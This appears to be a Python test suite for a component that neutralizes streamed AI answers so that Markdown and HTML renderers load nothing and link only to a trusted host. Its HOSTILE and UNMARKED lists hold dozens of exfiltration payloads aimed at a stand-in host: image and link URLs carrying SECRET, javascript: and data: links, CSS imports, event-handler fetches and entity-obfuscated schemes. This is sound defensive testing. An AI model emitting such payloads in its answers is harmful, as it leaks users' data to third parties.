"""No answer can call home: shown by any Markdown reader, it loads nothing and leads nowhere unknown."""

import random
import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from markdown_it import MarkdownIt

from workers.thinking.neutral import Neutralizer, hosts_in

HERE = "https://assent.example/"
LOADING = {
    "img",
    "image",
    "picture",
    "source",
    "video",
    "audio",
    "iframe",
    "embed",
    "object",
    "link",
    "script",
    "style",
}
HOSTILE = (
    "![x](https://evil.example/log?d=SECRET)",
    "![x](http://evil.example/a.png 'title')",
    "![](<https://evil.example/a b.png>)",
    "![x]( https://evil.example/a.png )",
    "![x](//evil.example/a.png)",
    r"![x](/\evil.example/a.png)",
    r"![x](\\\\evil.example\a.png)",
    "![x](&#104;ttps://evil.example/a.png)",
    "![x](HTTPS://EVIL.EXAMPLE/a.png)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "![r]\n\n[r]: <https://evil.example/a.png>",
    "![r][]\n\n[r]:\nhttps://evil.example/a.png",
    "![a [b] c](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "- item\n  ```\n![x](https://evil.example/a.png)",
    "```\ncode\n```\n![x](https://evil.example/a.png)",
    "> ![x](https://evil.example/a.png)",
    "| a |\n|---|\n| ![x](https://evil.example/a.png) |",
    '<img src="https://evil.example/a.png">',
    "<IMG SRC=//evil.example/a.png>",
    "<img\nsrc='https://evil.example/a.png'>",
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<video poster="https://evil.example/a.png"></video>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    "<style>@import 'https://evil.example/a.css'</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>',
    "[click](https://evil.example/?d=SECRET)",
    "[click](https://assent.example@evil.example/)",
    "[click](https://assent.example.evil.example/)",
    r"[click](https:\\evil.example/)",
    r"[click](/\evil.example)",
    "[click](//evil.example)",
    "[click](javascript:alert(1))",
    "[click](data:text/html,x)",
    "[click](&#106;avascript:alert(1))",
    "[click]( <https://evil.example/> )",
    "[click][r]\n\n[r]: https://evil.example/",
    "[r]\n\n[r]: //evil.example/",
    "<https://evil.example/?d=SECRET>",
    "<javascript:alert(1)>",
    "[r]: <//evil.example/a>\n\n![r]",
    "![x](<//evil.example/a>)",
    "see https://evil.example/?d=SECRET now",
    "see HTTP://evil.example:8080/x",
    "ftp://evil.example/x and wss://evil.example/y",
    "[click](https://assent.example:80@evil.example/)",
    "[click](https://assent.example&#64;evil.example/)",
    '<p style="background:url(//evil.example/a)">x</p>',
    '<table background="//evil.example/a"><tr><td>',
    "<div>\n<a/href=//evil.example>x</a>\n</div>",
    "<a href='&#104;ttps://evil.example'>x</a>",
    "<a\nhref=//evil.example>x</a>",
    "<p onmouseover=\"fetch('//evil.example')\">x</p>",
    f"<{'x' * 300} style=background:url(//evil.example/a)>",
    "<x:y/style=background:url(//evil.example/a)>",
)
UNMARKED = (
    "see www.evil.example/?d=SECRET now",
    "(www.evil.com)",
    "WWW.EVIL.COM",
    "www.evil.com/www.evil.net/?d=SECRET",
    "&#104;ttps://evil.example/x",
    "https&#58;//evil.example/x",
    "https&colon;//evil.example/x",
    r"https\://evil.example/y",
    r"https:\/\/evil.example/y",
    r"www\.evil.example/y",
    "www&period;evil.example/y",
    "evil.com/?d=SECRET",
    "evil.ru/SECRET",
    "evil.sh/SECRET and evil.py?d=SECRET",
    "SECRET.evil.com",
    "see evil.net:8080 now",
    "//evil.com/SECRET",
    "[a](  \n //evil.example)",
    "[x]:\n\n//evil.example",
    "mailto:a@evil.example?body=SECRET",
)
"""Addresses that nobody marked as such, of which some readers make links all the same."""
_AUTOLINKS = re.compile(
    r"(?:\b(?:https?|ftp)://|(?<![\w.])www\.|(?<![:/\w])//)[\w-]+\.[\w.-]+|\b(?:mailto|xmpp):\S+@"
    r"|\b[\w-]+\.(?:com|net|[a-z]{2})(?:[/?#][\w?]|:\d)|\b[\w-]+\.[\w-]+\.(?:com|net)\b",
    re.IGNORECASE,
)


LONG = ("a", "a.", "ab-c.", "]:", "](", "/a", "//a.", "www.", "https://", "&#", ".", "<a", "![", "a/", "<ab:")
"""Repeated, each once made the reading take time by the square of its length, or too many calls in one another."""


class Fetched(HTMLParser):
    """What a browser would load, and where its links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.loads: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in LOADING or any(name in {"style", "background"} or name.startswith("on") for name, _ in attrs):
            self.loads.append(tag)
        self.links.extend(value or "" for name, value in attrs if name == "href")


def _accept(url: str) -> bool:
    return True


def shown(text: str, *, html: bool) -> Fetched:
    reader = MarkdownIt("gfm-like", {"html": html, "linkify": False})
    # Every address is a link for this reader, however odd: the worst that a client can be.
    reader.validateLink = _accept  # type: ignore[method-assign]
    page = Fetched()
    page.feed(reader.render(text))
    return page


def in_pieces(text: str, seed: int, hosts: tuple[str, ...] = ("assent.example",)) -> str:
    chance = random.Random(seed)
    neutral, said, at = Neutralizer(hosts), "", 0
    while at < len(text):
        size = chance.randint(1, 9)
        said += neutral.push(text[at : at + size])
        at += size
    return said + neutral.rest()


class TestNeutralizer:
    @pytest.mark.parametrize("html", [True, False], ids=["with html", "without"])
    @pytest.mark.parametrize("text", HOSTILE)
    def test_nothing_hostile_is_loaded_or_linked(self, text, html):
        for seed in range(12):
            page = shown(in_pieces(text, seed), html=html)

            assert page.loads == []
            hosts = {urlsplit(urljoin(HERE, link.replace("\\", "/"))).hostname for link in page.links}
            assert hosts <= {"assent.example"}, (in_pieces(text, seed), page.links)
            assert not any(link.lower().startswith(("javascript:", "data:")) for link in page.links)

    @pytest.mark.parametrize("text", UNMARKED)
    def test_readers_find_no_address_that_nobody_marked(self, text):
        for seed in range(12):
            # Some readers look for addresses after they have read entities and escapes.
            read = re.sub(r"\\([:/.])", r"\1", unescape(in_pieces(text, seed)))

            assert _AUTOLINKS.search(unescape(text).replace("\\", ""))
            assert not _AUTOLINKS.search(read), read

    @pytest.mark.parametrize("text", [*HOSTILE, *UNMARKED])
    def test_pieces_make_no_difference(self, text):
        assert {in_pieces(text, seed) for seed in range(20)} == {in_pieces(text, 99)}

    @pytest.mark.parametrize("part", LONG)
    def test_a_long_answer_of_one_piece_is_read(self, part):
        neutral = Neutralizer()
        said = neutral.push(part * (50_000 // len(part))) + neutral.rest()

        assert len(said) >= 50_000 - len(part)

    @pytest.mark.parametrize(
        "text",
        [
            "Nothing special here, only words: h, ht, https and a < b, a[0]: done!",
            "[yours](https://assent.example/x?y=1) and https://assent.example/z",
            "[here](/approvals/1) and [there](#part)",
            "A list:\n\n- [ ] open\n- [x] done\n\n`a[1](2)`",
            "items[0]: the first",
            "See README.md, main.py:12, docs/a.md#part, `self.user.id`, log.info(x), Node.js and ASP.NET; e.g. this.",
            "assent.example/x and assent.example:80 are ours; write to bob@example.com",
            "A generic List<int>, <b>bold</b><br/> and i < n, AT&T, 3/4, // a comment",
        ],
    )
    def test_what_is_harmless_stays_as_it_is(self, text):
        assert in_pieces(text, 3) == text

    def test_what_was_cut_stays_readable(self):
        said = in_pieces("Look: ![a cat](https://evil.example/c.png)", 1)

        assert said == "Look: ! [a cat] (hxxps://evil.example/c.png)"

    def test_hosts_that_people_wrote_are_known(self):
        assert hosts_in(["see https://docs.example:8443/a", "or http://Other.example"]) == {
            "docs.example",
            "other.example",
        }
        assert hosts_in(["www.shop.example and wiki.example/x"]) == {"www.shop.example", "wiki.example"}
